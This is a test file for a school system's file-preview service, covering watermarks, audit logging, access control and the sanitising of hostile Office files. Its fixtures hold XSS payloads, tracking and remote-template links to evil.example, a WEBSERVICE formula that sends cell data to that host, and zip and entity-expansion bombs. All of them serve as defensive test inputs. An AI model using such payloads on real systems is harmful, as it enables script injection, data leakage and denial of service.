import { inflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import sql from 'sql-template-tag'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { upload } from '#testing/roster.ts'
import { type Actor, openSchool, type School } from '#testing/school.ts'
import { rawWorkbook, zipped } from '#testing/workbook.ts'
import { documentHtml } from '#web/files/docx.ts'

interface Preview {
  kind: string
  name: string
  link: string
  mark: string | null
  sheets?: Array<{ name: string; rows: string[][]; isCut: boolean }>
}
let school: School
let admin: Actor
beforeAll(async () => {
  school = await openSchool()
  admin = await school.as({ roles: ['admin'] })
})
afterAll(() => school.close())

const put = async (content: Buffer, name: string, who = admin): Promise<string> => {
  const answer = await upload<{ fileId: string }>(who, 'oss/oss/endpoint/put-file', content, name)
  expect(answer.msg).toBe('成功')
  return answer.data.fileId
}
const preview = (fileId: string, who = admin) => who.get<Preview>('oss/oss/endpoint/preview-file', { fileId })
/** Opens a link from a response without a session. */
const opened = (link: string) => school.server.app.inject({ method: 'GET', url: link })
const accountOf = async (who: Actor) => (await school.db.query<{ no: string }>(sql`select account_no as no from sys_user where id = ${who.userId}`))[0]?.no ?? ''
const looks = async (fileId: string) =>
  (await school.db.query<{ action: string }>(sql`select action from audit_log where detail->>'fileId' = ${fileId} order by seq`)).map(row => row.action)
const makeSensitive = (fileId: string) => school.db.query(sql`update attachment set sensitivity = 'S2' where id = ${fileId}`)

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const DRAWING = `<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:ID/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`
const docx = (body: string, rels = '', more: Record<string, string | Buffer> = {}) =>
  zipped({
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/></Types>',
    '_rels/.rels':
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml': `<w:document ${W}><w:body>${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
    ...more,
  })
const says = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const relation = (id: string, kind: string, target: string, isOutside = true): string =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"${isOutside ? ' TargetMode="External"' : ''}/>`
const xlsx = (rows: string, parts: Record<string, string | Buffer> = {}) => rawWorkbook([{ name: '名单', xml: `<sheetData>${rows}</sheetData>` }], { parts })
/** Text drawn on a PDF's pages. */
function drawnOn(pdf: Buffer): string {
  let words = ''
  const text = pdf.toString('latin1')
  for (const found of text.matchAll(/stream\r?\n/g)) {
    const start = found.index + found[0].length
    let content = ''
    try {
      content = inflateSync(pdf.subarray(start, text.indexOf('endstream', start))).toString('latin1')
    } catch {
      continue
    }
    for (const [, hex = ''] of content.matchAll(/<([0-9A-F]+)> Tj/g)) words += `${Buffer.from(hex, 'hex').toString('latin1')}\n`
  }
  return words
}

describe('10-F3 a preview', () => {
  it('of a sensitive PDF carries its reader and the time in the text of every page', async () => {
    const doc = await PDFDocument.create()
    doc.addPage([300, 400])
    doc.addPage([600, 200])
    const fileId = await put(Buffer.from(await doc.save()), '诊断.pdf')
    const plain = (await preview(fileId)).data
    expect(plain).toMatchObject({ kind: 'pdf', mark: null })
    expect(drawnOn((await opened(plain.link)).rawPayload)).toBe('')
    await makeSensitive(fileId)
    const shown = await opened((await preview(fileId)).data.link)
    expect(shown.headers['content-type']).toBe('application/pdf')
    const mark = new RegExp(`^${await accountOf(admin)}  \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d$`, 'gm')
    // two by three positions on the first page, three by two on the second
    expect(drawnOn(shown.rawPayload).match(mark)).toHaveLength(12)
  })
  it('of other sensitive files brings the mark along to be drawn over them', async () => {
    const picture = await put(
      await sharp({ create: { width: 40, height: 40, channels: 3, background: '#2063c4' } })
        .png()
        .toBuffer(),
      '病历.png',
    )
    const sheet = await put(await xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>张三</t></is></c></row>'), '名单.xlsx')
    for (const [fileId, kind] of [
      [picture, 'picture'],
      [sheet, 'sheets'],
    ] as const) {
      expect((await preview(fileId)).data).toMatchObject({ kind, mark: null })
      await makeSensitive(fileId)
      expect((await preview(fileId)).data.mark).toContain(await accountOf(admin))
    }
  })
  it('of a workbook is its beginning as words, and says that it is no more', async () => {
    const rows = Array.from(
      { length: 150 },
      (_, i) => `<row r="${i + 1}"><c r="A${i + 1}" t="inlineStr"><is><t>第${i + 1}行</t></is></c><c r="B${i + 1}"><v>${i}</v></c></row>`,
    ).join('')
    const { sheets } = (await preview(await put(await xlsx(rows), '长.xlsx'))).data
    expect(sheets).toMatchObject([{ name: '名单', isCut: true }])
    expect(sheets?.[0]?.rows).toHaveLength(100)
    expect(sheets?.[0]?.rows[99]).toEqual(['第100行', '99'])
  })
  it('says so where there is none', async () => {
    expect((await preview(await put(Buffer.from('只是文字'), '记.txt'))).data.kind).toBe('none')
  })
  it('is for whoever may read the row, and every look at a sensitive file is audited once', async () => {
    const fileId = await put(Buffer.from('%PDF-1.7\nx'), '困难证明.pdf')
    const stranger = await school.as({ roles: ['student'] })
    expect((await preview(fileId, stranger)).code).toBe(404)
    expect(await looks(fileId)).toEqual(['readFileRefused'])
    const sheet = await put(await xlsx('<row r="1"><c r="A1"><v>1</v></c></row>'), '台账.xlsx')
    await makeSensitive(sheet)
    const { link } = (await preview(sheet)).data
    expect((await opened(link)).statusCode).toBe(200)
    expect(await looks(sheet)).toEqual(['readFile'])
    await admin.get('oss/oss/endpoint/download-file', { fileId: sheet })
    expect(await looks(sheet)).toEqual(['readFile', 'readFile'])
    expect((await preview(sheet, await (await school.another()).as({ roles: ['admin'] }))).code).toBe(404)
    expect((await school.anonymous.get('oss/oss/endpoint/preview-file', { fileId: sheet })).code).toBe(401)
    expect((await opened(link.replace(sheet, fileId))).json().code).toBe(404)
  })
})
describe('10-F3 a hostile document', () => {
  it('runs nothing, asks nobody, leads nowhere', async () => {
    const pixel = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#119389' } })
      .png()
      .toBuffer()
    const buffer = await docx(
      [
        says('正文'),
        says('&lt;script&gt;alert(1)&lt;/script&gt;'),
        `<w:p><w:hyperlink r:id="h1"><w:r><w:t>点我</w:t></w:r></w:hyperlink><w:hyperlink r:id="h2"><w:r><w:t>官网</w:t></w:r></w:hyperlink></w:p>`,
        ...[['r:link="i1"'], ['r:embed="i2"'], ['r:embed="i3"']].map(([id]) => `<w:p><w:r>${DRAWING.replace('r:ID', id as string)}</w:r></w:p>`),
        '<w:altChunk r:id="c1"/>',
      ].join(''),
      [
        relation('h1', 'hyperlink', 'javascript:alert(1)'),
        relation('h2', 'hyperlink', 'https://evil.example/x'),
        relation('i1', 'image', 'http://evil.example/track.png'),
        relation('i2', 'image', 'media/a.svg', false),
        relation('i3', 'image', 'media/b.png', false),
        relation('c1', 'aFChunk', 'chunk.html', false),
        relation('t1', 'attachedTemplate', 'http://evil.example/t.dotm'),
      ].join(''),
      { 'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'word/media/b.png': pixel, 'word/chunk.html': '<script>alert(1)</script>' },
    )
    const fileId = await put(buffer, '毒.docx')
    expect((await preview(fileId)).data.kind).toBe('document')
    const html = await documentHtml({ buffer })
    expect(html).toContain('正文')
    expect(html).toContain('点我')
    expect(html).toContain('&lt;script&gt;')
    expect(html).toContain(`data:image/png;base64,${pixel.toString('base64')}`)
    for (const word of ['<script', 'javascript:', 'http', '<a', 'svg', 'onload', 'href']) expect(html).not.toContain(word)
  })
  it('that unfolds into gigabytes is not given to the browser', async () => {
    const bomb = await docx(says('x'), '', { 'word/media/zero.xml': Buffer.alloc(25_000_000) })
    expect(bomb.length).toBeLessThan(100_000)
    const answer = await preview(await put(bomb, '炸.docx'))
    expect([answer.code, answer.errors[0]?.rule]).toEqual([422, 'file.preview'])
  })
  it('a workbook with formulas, links and entities shows words or nothing', async () => {
    const formula = await xlsx('<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A2)</f><v>&lt;img src=x onerror=alert(1)&gt;</v></c></row>', {
      'xl/externalLinks/_rels/externalLink1.xml.rels': relation('r', 'externalLinkPath', 'http://evil.example/book.xlsx'),
    })
    expect((await preview(await put(formula, '公式.xlsx'))).data.sheets?.[0]?.rows).toEqual([['<img src=x onerror=alert(1)>']])
    const entities = await xlsx('', {
      'xl/worksheets/sheet1.xml': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><worksheet><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></worksheet>',
    })
    const bomb = await xlsx('', { 'xl/sharedStrings.xml': Buffer.concat([Buffer.from('<sst><si><t>'), Buffer.alloc(60_000_000, 'a'), Buffer.from('</t></si></sst>')]) })
    for (const [content, name] of [
      [entities, '实体.xlsx'],
      [bomb, '炸.xlsx'],
      [Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(500)]), '坏.xlsx'],
    ] as const) {
      const answer = await preview(await put(content, name))
      expect([answer.code, answer.errors[0]?.rule]).toEqual([422, 'file.preview'])
    }
  })
})
